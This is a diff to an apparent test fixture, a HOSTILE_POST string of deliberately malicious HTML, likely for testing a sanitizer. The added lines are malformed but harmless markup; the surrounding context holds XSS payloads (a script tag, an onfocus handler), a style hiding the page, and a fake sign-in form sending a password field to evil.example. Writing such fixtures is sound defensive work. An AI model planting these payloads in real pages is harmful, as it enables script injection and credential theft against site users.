@@ -37,6 +37,10 @@ export const HOSTILE_POST = `Hello <script>window.hacked = 1; alert(1)</script>
 
 <p style="position:fixed;inset:0;background:red" class="card" id="main">covers the page</p>
 
+<ul>loose <li>one<li>two</ul> <table><td>cell</table> <b><div>a block</div></b> <img title="no text">
+
+<details>nameless</details> <p>one<p>two <span lang="??" dir="up">odd</span> <time>soon</time>
+
 <style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css">
 
 <form action="https://evil.example/"><input name="password" autofocus onfocus="window.hacked=9"><button>Sign in</button></form>
